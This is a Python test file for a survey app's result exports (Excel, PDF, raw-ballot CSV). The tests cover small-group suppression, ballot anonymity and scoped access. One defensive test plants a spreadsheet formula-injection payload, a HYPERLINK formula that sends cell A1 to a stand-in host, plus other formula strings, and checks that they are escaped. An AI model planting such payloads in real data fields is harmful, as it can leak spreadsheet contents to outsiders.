"""Exports: the Excel workbook equals the report, PDFs carry the figures, the raw-ballot CSV
is anonymous and leaves small groups out, formula injection is neutralised, and access
follows the results pages (scoped users get their scope; raw CSV for unscoped organizers)."""

import csv
import io
import re
from datetime import date

import numpy as np
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from survey_app.extensions import db
from survey_app.models import Ballot, Role, Subject, Survey
from survey_app.services.platform import sheets
from survey_app.services.results import ballot_columns, exports, report_pdfs, reports
from tests.app.documents import assert_fonts_embedded, pdf_text, pdf_text_or_skip
from tests.app.test_reports import cast, rated_survey  # noqa: F401 — the fixture is used by name

TODAY = date(2026, 12, 1)
INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'


def _report(app, survey_id):
    with app.app_context():
        return reports.survey_report(db.session.get(Survey, survey_id))


def _subject_id(app, key):
    with app.app_context():
        return db.session.scalars(select(Subject.id).where(Subject.key == key)).one()


def _approx(values):
    """The report's figures as Excel keeps them (15–16 significant digits); None stays None."""
    return [value if value is None or isinstance(value, str) else pytest.approx(value, rel=1e-15)
            for value in values]


def _rows(by_key, key):
    return next(row for row in by_key if row.key == key)


def _sheet_rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _pdf_pages(data: bytes) -> int:
    """Count the PDF's page objects (without a PDF library: reportlab writes them uncompressed)."""
    return len(re.findall(rb"/Type\s*/Page(?![a-zA-Z])", data))


# ---- Excel ----------------------------------------------------------------------------


def test_workbook_sheets_headers_and_format(app, client, auth, rated_survey):  # noqa: F811
    auth.login("viewer", Role.VIEWER)
    response = client.get(f"/admin/reports/{rated_survey}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == sheets.XLSX_MIMETYPE
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "private, no-store"
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["排名", "评议主体", "各维度", "等次分布", "单位", "说明", "选择题统计", "文字意见"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1] if cell.value is not None)
    ranking = book["排名"]
    assert [c.value for c in ranking[1]] == [
        "排名", "类别内排名", "评议对象", "职务", "单位", "单位类别", "满意度指数", "95%区间下限", "95%区间上限",
        "计入人数", "优秀率", "称职及以上", "不称职率", "分歧提示", "差评提示"]
    assert ranking.column_dimensions["C"].width >= 12
    assert ranking["G2"].number_format == "0.0" and ranking["K2"].number_format == "0.0%"


def test_workbook_values_equal_the_report(app, client, auth, rated_survey):  # noqa: F811
    report = _report(app, rated_survey)
    auth.login("viewer", Role.VIEWER)
    book = load_workbook(io.BytesIO(client.get(f"/admin/reports/{rated_survey}/export.xlsx").data))

    ranking = _sheet_rows(book["排名"])[1:]
    assert len(ranking) == len(report.subjects)
    for cells, row in zip(ranking, report.subjects, strict=True):
        assert cells[:6] == [row.rank, row.rank_in_category, row.name, row.position_title, row.unit, row.category]
        assert cells[6] == (pytest.approx(row.index, rel=1e-15) if row.index is not None else "样本不足")
        assert cells[7:13] == _approx([row.low, row.high, row.n, row.top_share, row.pass_share,
                                       row.negative_share])
    c3 = next(cells for cells in ranking if cells[2] == "王强")
    assert c3[0] is None and c3[6] == "样本不足"

    groups = _sheet_rows(book["评议主体"])
    assert groups[0] == ["排名", "评议对象", "单位", "上级·人数", "上级·指数", "服务对象·人数", "服务对象·指数"]
    by_name = {cells[1]: cells for cells in groups[1:]}
    c1, c2 = _rows(report.subjects, "C1"), _rows(report.subjects, "C2")
    assert by_name["张伟"][3:] == _approx([3, c1.groups[0].index, 3, c1.groups[1].index])
    assert by_name["李娜"][3:5] == _approx([3, c2.groups[0].index])
    assert by_name["李娜"][5:] == ["样本不足", "样本不足"]

    grades = _sheet_rows(book["等次分布"])
    assert grades[0] == ["评议对象", "单位", "优秀（次）", "称职（次）", "基本称职（次）", "不称职（次）",
                         "不了解（次，单列）", "优秀占比", "称职占比", "基本称职占比", "不称职占比"]
    zhang = next(cells for cells in grades[1:] if cells[0] == "张伟")
    # 12 ratings, one 不了解 counted apart; 服务对象's 服务意识 (2 scored < 3) is left out.
    assert zhang[2:7] == [4, 3, 2, 0, 1]
    assert zhang[7] == pytest.approx(4 / 9)

    units = _sheet_rows(book["单位"])[1:]
    assert [cells[2] for cells in units] == [unit.name for unit in report.units]
    assert [cells[4] for cells in units] == [pytest.approx(unit.index, rel=1e-15) if unit.index is not None
                                             else "样本不足" for unit in report.units]

    notes = {cells[0]: cells[1] for cells in _sheet_rows(book["说明"])[1:] if cells[0]}
    assert notes["评议活动"] == report.title and notes["有效答卷"] == 6
    assert notes["范围"] == "全部评议对象"
    assert "计算方法" in notes


def test_workbook_generated_date_is_the_one_passed(app, rated_survey):  # noqa: F811
    report = _report(app, rated_survey)
    with app.test_request_context():
        book = load_workbook(io.BytesIO(exports.results_workbook(report, TODAY)))
    notes = {cells[0]: cells[1] for cells in _sheet_rows(book["说明"])[1:] if cells[0]}
    assert notes["生成日期"] == "2026-12-01"


def test_small_group_never_appears_in_the_workbook(app, client, auth, rated_survey):  # noqa: F811
    # C2's 服务对象 has 2 ballots (< 3): 优秀, 优秀 and 不称职, 不称职 (index 50, n 2). None of it shows.
    auth.login("viewer", Role.VIEWER)
    book = load_workbook(io.BytesIO(client.get(f"/admin/reports/{rated_survey}/export.xlsx").data))
    grades = _sheet_rows(book["等次分布"])
    li = next(cells for cells in grades[1:] if cells[0] == "李娜")
    assert li[2:7] == [1, 4, 1, 0, 0]  # superiors' ratings only: no 不称职 from the small group
    groups = {cells[1]: cells for cells in _sheet_rows(book["评议主体"])[1:]}
    assert groups["李娜"][5:] == ["样本不足", "样本不足"] and not {2, 50.0} & set(groups["李娜"][3:])


def test_formula_injection_is_neutralised(app, client, auth, rated_survey):  # noqa: F811
    with app.app_context():
        subject = db.session.scalars(select(Subject).where(Subject.key == "C1")).one()
        subject.name = INJECTION
        subject.position_title = "@SUM(1+1)"
        db.session.commit()
    auth.login("organizer", Role.ORGANIZER)
    book = load_workbook(io.BytesIO(client.get(f"/admin/reports/{rated_survey}/export.xlsx").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert len(cells) >= 3  # 排名, 评议主体, 等次分布
    assert all(cell.value == "'" + INJECTION and cell.data_type == "s" for cell in cells)
    assert book["排名"]["D2"].value == "'@SUM(1+1)"
    rows = list(csv.reader(io.StringIO(client.get(f"/admin/reports/{rated_survey}/export.csv")
                                       .data.decode("utf-8-sig"))))
    assert {row[3] for row in rows[1:] if "HYPERLINK" in row[3]} == {"'" + INJECTION}


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+86", "'+86"), ("-2", "'-2"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("张伟", "张伟"), ("a=b", "a=b"), ("", ""),
])
def test_safe_text(text, expected):
    assert sheets.safe_text(text) == expected


# ---- raw ballots (CSV) ----------------------------------------------------------------


def _csv(client, survey_id):
    response = client.get(f"/admin/reports/{survey_id}/export.csv")
    assert response.status_code == 200, response.status_code
    return response


def test_csv_is_anonymous_and_leaves_small_groups_out(app, client, auth, rated_survey):  # noqa: F811
    auth.login("organizer", Role.ORGANIZER)
    response = _csv(client, rated_survey)
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese correctly
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == ["答卷编号", "评议主体", "评议对象编号", "评议对象", "维度", "选项", "分值"]
    body = rows[1:]
    # Superiors: 3 ballots × C1, C2 × 2 dimensions = 12; 服务对象 on C1: 3 × 2 = 6. C2's
    # 服务对象 (2 ballots, below the minimum of 3) is left out: its 4 rows never appear.
    assert len(body) == 18
    assert not [row for row in body if row[1] == "服务对象" and row[2] == "C2"]
    assert sorted({int(row[0]) for row in body}) == [1, 2, 3, 4, 5, 6]
    with app.app_context():
        ballot_ids = db.session.scalars(select(Ballot.id)).all()
    text = response.data.decode("utf-8-sig")
    assert not any(ballot_id in text for ballot_id in ballot_ids)
    unknown = [row for row in body if row[5] == "不了解"]
    assert len(unknown) == 1 and unknown[0][6] == "" and unknown[0][2] == "C1"
    assert {row[6] for row in body} <= {"100", "80", "60", "0", ""}
    # Every ballot's rows stay together and the numbering is stable from one export to the next.
    assert [int(row[0]) for row in body] == sorted(int(row[0]) for row in body)
    assert _csv(client, rated_survey).data == response.data


def test_csv_numbers_follow_neither_ids_nor_submission(app, client, auth, make_survey):
    survey_id = make_survey(publish=True)
    labels = ("优秀", "称职", "基本称职", "不称职")
    patterns = [(labels[i // 4], labels[i % 4]) for i in range(12)]  # twelve distinguishable ballots
    for pattern in patterns:  # cast in this order: submission order = pattern order
        cast(app, survey_id, "superior", {"C3": pattern})
    auth.login("organizer", Role.ORGANIZER)
    rows = list(csv.reader(io.StringIO(_csv(client, survey_id).data.decode("utf-8-sig"))))[1:]
    by_number = {}
    for row in rows:
        by_number.setdefault(int(row[0]), []).append(row[5])
    assert sorted(by_number) == list(range(1, 13))
    submitted = [patterns.index(tuple(by_number[n])) for n in sorted(by_number)]
    assert submitted != list(range(12))  # not the order of submission
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        label = {o.id: o.label for o in survey.scale_options}
        position = {d.id: d.position for d in survey.dimensions}
        ballots = db.session.scalars(select(Ballot).where(Ballot.survey_id == survey_id).order_by(Ballot.id)).all()
        id_order = [patterns.index(tuple(label[r.option_id] for r in sorted(b.ratings, key=lambda r: position[r.dimension_id])))
                    for b in ballots]
    assert submitted != id_order  # nor the order of the database ids


def test_csv_leaves_excluded_ballots_out(app, client, auth, rated_survey):  # noqa: F811
    with app.app_context():
        ballot = db.session.scalars(select(Ballot).where(Ballot.survey_id == rated_survey)
                                    .order_by(Ballot.id)).first()
        ballot.is_excluded = True
        db.session.commit()
        report = reports.survey_report(db.session.get(Survey, rated_survey))
    auth.login("organizer", Role.ORGANIZER)
    rows = list(csv.reader(io.StringIO(_csv(client, rated_survey).data.decode("utf-8-sig"))))[1:]
    assert report.ballots == 5
    assert len({row[0] for row in rows}) <= 5


@pytest.mark.parametrize("role, scoped, status", [
    (Role.VIEWER, False, 403), (Role.ORGANIZER, True, 403), (Role.ADMIN, True, 403),
    (Role.ORGANIZER, False, 200), (Role.ADMIN, False, 200),
])
def test_csv_is_for_unscoped_organizers_and_admins(app, client, auth, rated_survey, role, scoped, status):  # noqa: F811
    with app.app_context():
        unit = db.session.scalars(select(Subject).where(Subject.key == "C3")).one().unit_id
    auth.create_user("someone", role, unit_ids=[unit] if scoped else [])
    client.post("/auth/login", data={"username": "someone", "password": auth.PASSWORD})
    assert client.get(f"/admin/reports/{rated_survey}/export.csv").status_code == status


# ---- PDF ------------------------------------------------------------------------------


def test_survey_pdf(app, client, auth, rated_survey, tmp_path):  # noqa: F811
    auth.login("viewer", Role.VIEWER)
    response = client.get(f"/admin/reports/{rated_survey}/export.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF-")
    assert _pdf_pages(response.data) >= 1
    text = pdf_text_or_skip(response.data)
    report = _report(app, rated_survey)
    c1 = _rows(report.subjects, "C1")
    assert "2026年度民主测评" in text and "评议结果" in text
    assert "张伟" in text and "王强" in text and "样本不足" in text
    assert f"{c1.index:.1f}" in text and f"{c1.low:.1f}–{c1.high:.1f}" in text
    assert f"第 1 页，共 {_pdf_pages(response.data)} 页" in text
    assert "生成日期" in text and "市发改委" in text
    assert_fonts_embedded(response.data)  # readable where no Chinese font is installed


def test_survey_pdf_is_deterministic_for_a_given_date(app, rated_survey):  # noqa: F811
    report = _report(app, rated_survey)
    with app.test_request_context():
        first, second = report_pdfs.survey_pdf(report, TODAY), report_pdfs.survey_pdf(report, TODAY)
    assert first == second


def test_subject_pdf_shows_groups_and_hides_the_small_one(app, client, auth, rated_survey, tmp_path):  # noqa: F811
    auth.login("viewer", Role.VIEWER)
    c2 = _subject_id(app, "C2")
    response = client.get(f"/admin/reports/{rated_survey}/subjects/{c2}/export.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF-")
    text = pdf_text_or_skip(response.data)
    report = _report(app, rated_survey)
    row = _rows(report.subjects, "C2")
    assert "李娜" in text and "上级" in text and "服务对象" in text and "样本不足" in text
    assert f"{row.index:.1f}" in text and f"{row.groups[0].index:.1f}" in text
    assert "服务意识" in text and "担当精神" in text and "优秀率" in text
    served_line = next(line for line in text.splitlines() if "服务对象" in line and "0.6" in line)
    assert "样本不足" in served_line and " 2 " not in served_line
    assert_fonts_embedded(response.data)


def test_subject_pdf_of_an_unknown_subject_is_404(client, auth, rated_survey):  # noqa: F811
    auth.login("viewer", Role.VIEWER)
    assert client.get(f"/admin/reports/{rated_survey}/subjects/999999/export.pdf").status_code == 404


# ---- access ---------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["export.xlsx", "export.pdf", "export.csv", "subjects/1/export.pdf"])
def test_exports_need_sign_in(client, rated_survey, path):  # noqa: F811
    response = client.get(f"/admin/reports/{rated_survey}/{path}")
    assert response.status_code == 302 and "/auth/login" in response.headers["Location"]


def test_scoped_viewer_exports_only_their_units(app, client, auth, rated_survey, tmp_path):  # noqa: F811
    with app.app_context():
        finance = db.session.scalars(select(Subject).where(Subject.key == "C3")).one().unit_id
    auth.create_user("finance-viewer", Role.VIEWER, unit_ids=[finance])
    client.post("/auth/login", data={"username": "finance-viewer", "password": auth.PASSWORD})
    book = load_workbook(io.BytesIO(client.get(f"/admin/reports/{rated_survey}/export.xlsx").data))
    names = [cells[2] for cells in _sheet_rows(book["排名"])[1:]]
    assert names == ["王强"]
    assert [cells[2] for cells in _sheet_rows(book["单位"])[1:]] == ["市财政局"]
    notes = {cells[0]: cells[1] for cells in _sheet_rows(book["说明"])[1:] if cells[0]}
    assert notes["范围"] == "仅限您权限范围内的单位"
    all_text = " ".join(str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
                        for v in row if v is not None)
    assert "张伟" not in all_text and "李娜" not in all_text
    pdf = client.get(f"/admin/reports/{rated_survey}/export.pdf")
    text = pdf_text(pdf.data)
    if text is not None:
        assert "王强" in text and "张伟" not in text and "李娜" not in text
    assert client.get(f"/admin/reports/{rated_survey}/subjects/{_subject_id(app, 'C1')}/export.pdf"
                      ).status_code == 404


def test_results_pages_link_the_exports(app, client, auth, rated_survey):  # noqa: F811
    auth.login("organizer", Role.ORGANIZER)
    page = client.get(f"/admin/reports/{rated_survey}").get_data(as_text=True)
    for path in ("export.xlsx", "export.pdf", "export.csv"):
        assert f"/admin/reports/{rated_survey}/{path}" in page
    c1 = _subject_id(app, "C1")
    detail = client.get(f"/admin/reports/{rated_survey}/subjects/{c1}").get_data(as_text=True)
    assert f"/admin/reports/{rated_survey}/subjects/{c1}/export.pdf" in detail
    auth.logout()
    auth.login("viewer", Role.VIEWER)
    assert "export.csv" not in client.get(f"/admin/reports/{rated_survey}").get_data(as_text=True)


def test_empty_survey_exports_without_error(app, client, auth, make_survey):
    survey_id = make_survey(publish=True)
    auth.login("organizer", Role.ORGANIZER)
    for path in ("export.xlsx", "export.pdf", "export.csv"):
        assert client.get(f"/admin/reports/{survey_id}/{path}").status_code == 200, path


# ---- the adapter's load from ratings rows (services/results/ballot_columns.answers_from_ratings) -------


def test_unpacked_load_gives_the_same_columns(app, rated_survey, monkeypatch):  # noqa: F811
    with app.app_context():
        survey = db.session.get(Survey, rated_survey)
        packed = ballot_columns.answers_from_ratings(survey)
        monkeypatch.setattr(ballot_columns, "_PACK_LIMIT", 1)
        unpacked = ballot_columns.answers_from_ratings(survey)
    for name in ("ballot", "subject", "dimension", "group", "option"):
        assert np.array_equal(getattr(packed, name), getattr(unpacked, name)), name
    assert np.array_equal(packed.score, unpacked.score, equal_nan=True)
    assert len(packed) == 22 and int(np.isnan(packed.score).sum()) == 1
